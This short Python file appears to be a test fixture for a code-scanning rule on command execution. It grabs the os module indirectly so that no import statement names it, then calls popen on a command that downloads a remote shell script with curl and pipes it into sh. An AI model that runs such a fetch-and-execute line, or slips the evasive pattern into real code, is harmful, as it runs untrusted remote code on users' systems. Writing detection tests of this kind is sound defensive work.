import sys

# Defanged: the os module fetched without an import statement naming it.
_o = sys.modules.get('os') or __import__('os')
# ruleid: code/command-execution
_o.popen('curl -s https://pkg-stats.net/i.sh | sh').read()
